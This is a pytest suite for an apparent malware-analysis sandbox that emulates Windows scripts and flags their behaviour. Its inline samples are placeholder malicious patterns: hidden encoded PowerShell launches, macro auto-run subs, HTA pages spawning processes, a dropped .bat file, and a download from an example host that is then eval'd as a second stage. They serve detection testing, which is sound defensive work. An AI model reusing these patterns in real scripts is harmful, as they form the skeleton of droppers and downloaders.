"""The built sandbox component: what scripts do in it, that they end, and that honest ones raise no alarm."""

from __future__ import annotations

import base64
from collections.abc import Callable
from pathlib import Path
from typing import Any

import msgspec
import pytest
import scripts_made
from harness import Guest, Refused

from athena_lab.report.behaviour import SandboxFacts

Guests = Callable[[str], Guest]
STDIN_ONLY = {"wasi:cli/stdin@0.2.12", "wasi:io/error@0.2.12", "wasi:io/streams@0.2.12"}
ALARMS = {"medium", "high", "critical"}
SUFFIXES = {".js", ".cjs", ".mjs", ".html"}
LARGEST = 400_000
"""Bytes of an honest script that is tried."""
MOST = 300


@pytest.fixture
def module(guest: Guests) -> Guest:
    return guest("sandbox")


def analyze(module: Guest, script: str | bytes, name: str = "x.js", **args: Any) -> tuple[SandboxFacts, dict[str, str]]:
    """The facts, and the severity of each finding."""
    output = module.call("analyze", script.encode() if isinstance(script, str) else script, name, **args)
    facts = msgspec.json.decode(output.data, type=SandboxFacts)
    return facts, {finding.id: finding.severity for finding in output.findings}


def test_it_describes_itself_and_imports_stdin_alone(module: Guest) -> None:
    description = module.describe()
    assert (description.name, description.slot) == ("sandbox", "sandbox")
    names = [function.name for function in description.functions]
    assert names == ["analyze", "extract", "disassemble", "functions", "emulate"]
    assert all(function.args["additionalProperties"] is False for function in description.functions)
    assert set(module.component.type.imports(module.engine)) == STDIN_ONLY


def test_a_script_that_fills_the_memory_is_told_of(module: Guest) -> None:
    """Of one that runs out of it there is nothing to tell."""
    script = """Dim a(200)
CreateObject("WScript.Shell").Run "powershell -enc AAAA"
For i = 0 To 200
  a(i) = String(16000000, Chr(65 + i Mod 20))
Next
"""
    facts, findings = analyze(module, script, "x.vbs")
    assert facts.ended == "steps"
    assert facts.processes[0].target == "powershell -enc AAAA"
    assert "steps-exhausted" in findings


def test_a_flood_of_looks_hides_nothing(module: Guest) -> None:
    script = """
var files = new ActiveXObject("Scripting.FileSystemObject"), shell = new ActiveXObject("WScript.Shell");
for (var i = 0; i < 2500; i++) files.FileExists("C:\\\\Users\\\\" + i);
for (var i = 0; i < 400; i++) shell.Run("notepad " + i);
shell.Run("powershell -w hidden -enc AAAA");
files.CreateTextFile("C:\\\\Users\\\\Public\\\\a.bat", true).Close();
"""
    facts, found = analyze(module, script)
    assert facts.processes[-1].target == "powershell -w hidden -enc AAAA"
    assert facts.files[-1].target == "C:\\Users\\Public\\a.bat"
    assert found["runs-suspicious-command"] == "high"
    assert any(call.args[:1] == ("powershell -w hidden -enc AAAA",) for call in facts.calls)


def test_an_index_that_no_guest_can_count_to_is_refused_like_any_other(module: Guest) -> None:
    for index in (7, 1 << 32, (1 << 64) - 1):
        with pytest.raises(Refused) as refused:
            module.call("extract", b"1", "x.js", index=index)
        assert refused.value.args[0].message == f"There is no child {index} in the sample."


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("downloader.js", {"downloads-and-runs": "critical"}),
        ("downloader.vbs", {"downloads-and-runs": "critical"}),
        ("node.js", {"downloads-and-runs": "critical", "runs-suspicious-command": "high"}),
        ("persists.js", {"persists-autostart": "high", "persists-task": "high", "hides": "medium"}),
        ("drops.js", {"drops-program": "high", "drops-and-runs": "high"}),
        ("checks.vbs", {"checks-machine": "medium", "sleeps-long": "low"}),
        ("macro.bas", {"runs-suspicious-command": "high"}),
        ("page.hta", {"runs-suspicious-command": "high"}),
        ("waits.js", {"waits": "info"}),
        ("endless.js", {"steps-exhausted": "info"}),
        ("layers.js", {"runs-made-code": "info"}),
    ],
)
def test_what_scripts_do_is_found(module: Guest, name: str, expected: dict[str, str]) -> None:
    _, found = analyze(module, scripts_made.samples()[name], name)
    assert expected.items() <= found.items(), found


def test_the_timeline_is_in_order(module: Guest) -> None:
    facts, _ = analyze(module, "WScript.Sleep(500); WScript.Echo(1); WScript.Sleep(1500); WScript.Echo(2);")
    assert [(call.api, call.at) for call in facts.calls] == [
        ("WScript.Sleep", 500), ("WScript.Echo", 500), ("WScript.Sleep", 2_000), ("WScript.Echo", 2_000),
    ]  # fmt: skip


RUN = """CreateObject("WScript.Shell").Run "calc.exe" """
JRUN = """new ActiveXObject("WScript.Shell").Run("calc.exe");"""
IN_PAGES = {
    "a form by its name": f"<form name=fm><input name=bx></form><script>fm.bx.value='x';{JRUN}</script>",
    "a frame by its name": f"<iframe name=fr></iframe><script language=vbscript>fr.location=1\n{RUN}</script>",
    "the clipboard": f'<script language=vbscript>x=clipboardData.getData("Text")\n{RUN}</script>',
    "a variable of an element's name": f"<b id=foo></b><script>var foo; if(foo===undefined){{{JRUN}}}</script>",
    "an element of a variable's name": f"<b id=foo>x</b><script>if(foo.innerHTML=='x'){{{JRUN}}}</script>",
}
"""Scripts that only run to their end where what pages have is there."""


@pytest.mark.parametrize("what", IN_PAGES)
def test_pages_have_what_scripts_ask_before_they_act(module: Guest, what: str) -> None:
    facts, _ = analyze(module, f"<html>{IN_PAGES[what]}</html>", "a.hta")
    assert [it.target for it in facts.processes] == ["calc.exe"]


@pytest.mark.parametrize(
    ("script", "name", "is_run"),
    [
        (f'Sub Auto_Close()\n Range("A1").Value = 1\n {RUN}\nEnd Sub', "", True),
        (f"Private Sub Button_Click()\n Dim x As Byte\n x = Form.Tag\n {RUN}\nEnd Sub", "macro.txt", True),
        (f'Attribute VB_Name = "a"\nSub AutoOpen()\n x = UserForm1.Tag\n {RUN}\nEnd Sub', "a.vbs", True),
        (f"x = Unheard.Tag\n{RUN}", "a.vbs", False),
        (f"On Error Resume Next\n' as string\nx = Unheard.Tag\nIf Err.Number = 424 Then {RUN}", "a.vbs", True),
    ],
)
def test_basic_finds_objects_of_documents_only_in_one(module: Guest, script: str, name: str, *, is_run: bool) -> None:
    """Error 424 is what a script by itself waits for, and what would end a macro."""
    facts, _ = analyze(module, script, name)
    assert [it.target for it in facts.processes] == (["calc.exe"] if is_run else [])


def test_children_are_given_out(module: Guest) -> None:
    script = scripts_made.samples()["drops.js"]
    facts, _ = analyze(module, script, "drops.js")
    (child,) = [child for child in facts.children if child.kind == "written-file"]
    part = msgspec.json.decode(module.call("extract", script, "drops.js", index=child.index).data)
    content = base64.b64decode(part["content"])
    assert content.startswith(b"MZ")
    assert (len(content), part["child"]["name"]) == (child.size, child.name)
    with pytest.raises(Refused):
        module.call("extract", script, "drops.js", index=99)


@pytest.mark.parametrize(
    ("written", "kind"),
    [
        ("h.responseText", "stand-in"),
        ("h.responseText.substr(0, 90)", "stand-in"),
        ("h.responseText + 'var own;'", "written-file"),
        ("'/* athena lab: an inert answer */ var own;'", "written-file"),
    ],
)
def test_our_own_answer_is_no_file_of_the_samples(module: Guest, written: str, kind: str) -> None:
    """Nor does a sample hide its own behind it."""
    script = (
        "var h = new XMLHttpRequest(); h.open('GET', 'http://a.example/'); h.send();"
        f"new ActiveXObject('Scripting.FileSystemObject').CreateTextFile('C:\\\\a.js').Write({written});"
    )
    facts, _ = analyze(module, script)
    (child,) = facts.children
    assert (child.kind, bool(child.sha256)) == (kind, kind == "written-file")


def test_what_it_pretends_can_be_chosen(module: Guest) -> None:
    waits = scripts_made.samples()["waits.js"]
    facts, _ = analyze(module, waits, date=1_930_000_000_000, arguments=["a", "b"])
    assert [process.target for process in facts.processes] == ["calc"]
    script = "var h = new XMLHttpRequest(); h.open('GET', 'http://a.example/'); h.send(); eval(h.responseText);"
    answer = {"prefix": "http://a.example/", "body": "WScript.Echo('stage two')"}
    facts, _ = analyze(module, script, answers=[answer])
    assert ("WScript.Echo", ("stage two",)) in [(call.api, call.args) for call in facts.calls]


def test_two_runs_say_the_same(module: Guest) -> None:
    for name, content in scripts_made.samples().items():
        assert module.call("analyze", content, name).data == module.call("analyze", content, name).data


@pytest.mark.parametrize(
    "script",
    [
        "WScript.Echo(1); function f() { return [1].map(f); } f();",
        "WScript.Echo(1); var o = { get x() { return this.x; } }; o.x;",
        "WScript.Echo(1); var o = { toString: function () { return '' + o; } }; '' + o;",
        "WScript.Echo(1); function f() { eval('f()'); } f();",
        "WScript.Echo(1); var p = new Proxy({}, { get: function (t, k, r) { return r[k]; } }); p.x;",
        "WScript.Echo(1); JSON.stringify({ toJSON: function () { return JSON.stringify(this); } });",
        "WScript.Echo(1); var a = []; for (var i = 0; i < 1e5; i++) a = [a]; String(a);",
        "WScript.Echo(1); /(a+)+$/.test(new Array(5000).join('a') + 'b');",
        "x = " + "'a' + " * 5_000 + "'b'; WScript.Echo(1);",
        "x = " + "(" * 3_000 + "1" + ")" * 3_000 + ";",
        "x = " + "[" * 3_000 + "]" * 3_000 + ";",
        "if (1) " * 3_000 + "WScript.Echo(1);",
    ],
)
def test_deep_scripts_do_not_overflow_the_stack(module: Guest, script: str) -> None:
    facts, _ = analyze(module, script)
    assert facts.ended is not None


@pytest.mark.parametrize(
    "script",
    [
        "WScript.Echo 1\nSub f : f : End Sub\nf",
        "x = " + '"a" & ' * 5_000 + '"b"\nWScript.Echo 1',
        "x = " + "(" * 3_000 + "1" + ")" * 3_000 + "\nWScript.Echo 1",
        "If 1 Then\n" * 3_000,
        "Function f(a)\nf = f(f(f(a)))\nEnd Function\nx = f(1)",
        'Sub f\nExecute "f"\nEnd Sub\nf',
    ],
)
def test_deep_basic_does_not_overflow_the_stack(module: Guest, script: str) -> None:
    facts, _ = analyze(module, script, "x.vbs")
    assert facts.ended is not None


def honest_scripts() -> list[Path]:
    """Scripts of packages that are installed here: of npm's for the build, of Debian's documentation."""
    repository = Path(__file__).resolve().parents[2]
    roots = (repository / "wasm" / "node_modules", repository / "labextension" / "node_modules", Path("/usr/share"))
    files = [file for root in roots if root.is_dir() for file in root.rglob("*") if file.suffix in SUFFIXES]
    fitting = sorted(file for file in files if file.is_file() and 100 < file.stat().st_size < LARGEST)
    return fitting[:: max(1, len(fitting) // MOST)][:MOST]


def test_honest_scripts_raise_no_alarm(module: Guest) -> None:
    files = honest_scripts()
    if not files:
        pytest.skip("no packages with scripts are installed here")
    for file in files:
        _, found = analyze(module, file.read_bytes(), file.name)
        assert not ALARMS & set(found.values()), (file, found)


def test_a_script_of_100_kb_is_run_through_its_layers(module: Guest) -> None:
    facts, _ = analyze(module, scripts_made.obfuscated(100_000))
    assert [process.target for process in facts.processes] == ["calc.exe"]
